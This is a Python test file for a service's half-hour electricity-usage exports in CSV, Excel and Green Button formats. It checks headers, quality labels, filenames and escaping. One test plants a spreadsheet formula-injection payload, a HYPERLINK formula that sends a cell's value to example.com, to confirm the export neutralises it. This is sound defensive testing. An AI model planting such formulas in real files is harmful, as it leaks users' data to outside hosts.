"""Files of half-hour usage, as members' programs read them (US-9)."""

import asyncio
import csv
from dataclasses import replace
from datetime import date, datetime, timedelta
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
from greenbutton_objects import parse

from datasources.bill_csv import bill_csv
from domain.readings import Direction, Quality
from domain.slots import TOKYO
from tests.api import Api
from tests.downloading import FROM, TO, fetched, usage_url
from tests.office import convert
from tests.usage_series import SERIES
from tests.world import World

HEAD = ["開始日時", "終了日時", "使用量（kWh）", "料金の目安（円）", "品質", "品質コード"]
LABELS = {"SETTLED": "確定値", "ESTIMATED": "推定値", "PROVISIONAL": "速報値", "MISSING": "欠測"}
ESPI = {"SETTLED": "validated", "ESTIMATED": "estimatedUsingReferenceDay", "PROVISIONAL": "raw"}
HALF_HOUR = timedelta(minutes=30)
Point = dict[str, Any]


@pytest.fixture
async def used(world: World) -> World:
    """Alice's facility with a known plan: days settled, estimated, provisional, and an empty one."""
    facility = world.alice.facility
    (contract,) = facility.contracts
    await world.change(facility, contracts=(replace(contract, plan="lighting-b"),))
    await world.period(facility, date(2040, 5, 12), date(2040, 6, 10))
    await world.use(facility, date(2040, 5, 30), 12)
    await world.use(facility, date(2040, 6, 11), 1, quality=Quality.ESTIMATED)
    await world.use(facility, date(2040, 6, 13), 3, quality=Quality.PROVISIONAL)
    await world.use(facility, date(2040, 6, 1), 1, direction=Direction.EXPORT)
    return world


async def points(api: Api, world: World, direction: str = "IMPORT") -> list[Point]:
    """The same half hours as a query has them."""
    given = {"id": world.alice.facility_id, "from": FROM, "to": TO, "direction": direction}
    data = await api.data(SERIES, world.alice.token, **given)
    found: list[Point] = data["facility"]["usage"]["points"]
    return found


def rows(content: bytes) -> list[list[str]]:
    """Rows of a CSV that begins with a byte order mark."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def row(point: Point) -> list[str]:
    """What the row of a half hour must say."""
    instants = (datetime.fromisoformat(point[name]) for name in ("startAt", "endAt"))
    kwh = "" if point["kwh"] is None else f"{point['kwh']:.3f}"
    yen = "" if point["yen"] is None else f"{point['yen']:.2f}"
    quality = point["quality"]
    return [*(f"{at:%Y-%m-%d %H:%M}" for at in instants), kwh, yen, LABELS[quality], quality]


async def test_a_csv_has_the_half_hours_of_a_series_of_any_resolution(
    api: Api, used: World
) -> None:
    response = await fetched(api, await usage_url(api, used.alice, resolution="DAY"))

    head, *found = rows(response.content)
    wanted = await points(api, used)
    assert head == HEAD
    assert found == [row(point) for point in wanted]
    assert {point["quality"] for point in wanted} == set(LABELS)
    assert [point["yen"] is None for point in wanted] == [point["kwh"] is None for point in wanted]
    assert ["2040-06-12 23:30", "2040-06-13 00:00", "", "", "欠測", "MISSING"] in found
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["cache-control"] == "private, no-cache"
    name = f"電気使用量_{used.alice.facility.name}_20400601-20400615.csv"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=\"download.csv\"; filename*=UTF-8''")
    assert unquote(disposition.rpartition("'")[2]) == name


async def test_what_was_fed_in_has_a_file_of_its_own(api: Api, used: World) -> None:
    response = await fetched(api, await usage_url(api, used.alice, direction="EXPORT"))

    head, *found = rows(response.content)
    assert head[2:4] == ["売電量（kWh）", "売電額の目安（円）"]
    assert found == [row(point) for point in await points(api, used, "EXPORT")]
    assert "%E5%A3%B2%E9%9B%BB%E9%87%8F" in response.headers["content-disposition"]


async def test_spreadsheets_find_times_numbers_and_japanese_and_no_formula(
    api: Api, used: World, tmp_path: Path
) -> None:
    usage_csv, usage_xlsx, bill = (tmp_path / name for name in ("a.csv", "b.xlsx", "c.csv"))
    usage_csv.write_bytes((await fetched(api, await usage_url(api, used.alice, "CSV"))).content)
    usage_xlsx.write_bytes((await fetched(api, await usage_url(api, used.alice, "XLSX"))).content)
    formula = '=HYPERLINK("https://example.com/?"&L2;"料金")'
    priced = await used.bill(used.alice.facility, date(2040, 5, 1))
    line, *others = priced.lines
    bill.write_bytes(bill_csv(replace(priced, lines=(replace(line, label=formula), *others)), "+1"))
    wanted = [cells(point) for point in await points(api, used)]

    saved = tmp_path / "saved"
    await asyncio.to_thread(convert, [usage_csv, bill], "xlsx", saved)
    await asyncio.to_thread(convert, [usage_xlsx], "xlsx", saved)
    assert table(usage_xlsx) == wanted, "openpyxl"
    assert table(saved / "b.xlsx") == wanted, "LibreOffice"
    assert table(saved / "a.xlsx") == wanted, "LibreOffice, from CSV"
    assert openpyxl.load_workbook(usage_xlsx).active.freeze_panes == "A2"
    head, first, *_ = openpyxl.load_workbook(saved / "c.xlsx").active.iter_rows()
    found = {
        name.value: (cell.data_type, cell.value) for name, cell in zip(head, first, strict=True)
    }
    assert found["項目"] == ("s", f"'{formula}")
    assert found["ご使用場所"] == ("s", "'+1")
    assert found["金額（円）"] == ("n", line.amount_sen / 100)
    assert found["使用期間開始日"] == ("d", datetime(2040, 4, 12))  # noqa: DTZ001 - as cells have it


def cells(point: Point) -> tuple[Any, ...]:
    """What the cells of a half hour must hold."""
    start, end = (
        datetime.fromisoformat(point[name]).replace(tzinfo=None) for name in ("startAt", "endAt")
    )
    return start, end, point["kwh"], point["yen"], LABELS[point["quality"]], point["quality"]


def table(file: Path) -> list[tuple[Any, ...]]:
    """Cells of a workbook under the head that it must have."""
    head, *found = openpyxl.load_workbook(file).active.iter_rows(values_only=True)
    assert list(head) == HEAD
    return list(map(tuple, found))


@pytest.mark.parametrize(("direction", "flow"), [("IMPORT", "forward"), ("EXPORT", "reverse")])
async def test_green_button_is_read_to_the_same_readings(
    api: Api, used: World, direction: str, flow: str
) -> None:
    await used.change(used.alice.facility, name='<自宅> & "離れ"\x0b')
    url = await usage_url(api, used.alice, "GREEN_BUTTON", direction=direction)
    response = await fetched(api, url)

    (usage_point,) = parse.parse_feed(BytesIO(response.content))
    (meter,) = usage_point.meterReadings
    assert usage_point.title == '<自宅> & "離れ"'
    present = [each for each in await points(api, used, direction) if each["kwh"] is not None]
    found = [
        (
            each.timePeriod.start.astimezone(TOKYO).isoformat(),
            each.timePeriod.duration,
            each.value,
            [quality.quality.name for quality in each.readingQualities],
        )
        for each in meter.intervalReadings
    ]
    assert found == [
        (each["startAt"], HALF_HOUR, round(each["kwh"] * 1000), [ESPI[each["quality"]]])
        for each in present
    ]
    kind = meter.readingType
    assert (kind.uom.name, kind.flowDirection.name) == ("wattHours", flow)
    assert (kind.intervalLength, kind.accumulationBehaviour.name) == (1800, "deltaData")
    days = [block.interval.start.astimezone(TOKYO) for block in meter.intervalBlocks]
    assert len(days) == len({day.date() for day in days}) == (14 if flow == "forward" else 1)
    assert response.headers["content-type"] == "application/atom+xml; charset=utf-8"


async def test_a_span_before_the_contract_gives_files_without_rows(api: Api, used: World) -> None:
    await used.change(used.alice.facility, contracts=())
    csv_file = await fetched(api, await usage_url(api, used.alice))
    feed = await fetched(api, await usage_url(api, used.alice, "GREEN_BUTTON"))
    book = await fetched(api, await usage_url(api, used.alice, "XLSX"))

    assert rows(csv_file.content) == [HEAD]
    (usage_point,) = parse.parse_feed(BytesIO(feed.content))
    assert [list(meter.intervalReadings) for meter in usage_point.meterReadings] == [[]]
    assert openpyxl.load_workbook(BytesIO(book.content)).active.max_row == 1
